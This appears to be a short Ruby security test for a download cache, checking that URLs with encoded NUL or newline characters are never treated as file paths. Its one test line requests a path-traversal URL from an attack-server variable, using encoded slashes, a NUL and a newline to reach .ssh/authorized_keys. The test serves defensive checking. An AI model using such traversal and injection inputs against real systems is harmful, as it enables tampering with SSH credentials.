# promise: a URL holding an encoded NUL or newline is never a path: the cache names the entry by its digest, and the failed download leaves nothing.
server = ENV["ATTACK_SERVER"]
get "#{server}/..%2F..%2F.ssh%00%0Aauthorized_keys", "a.txt"
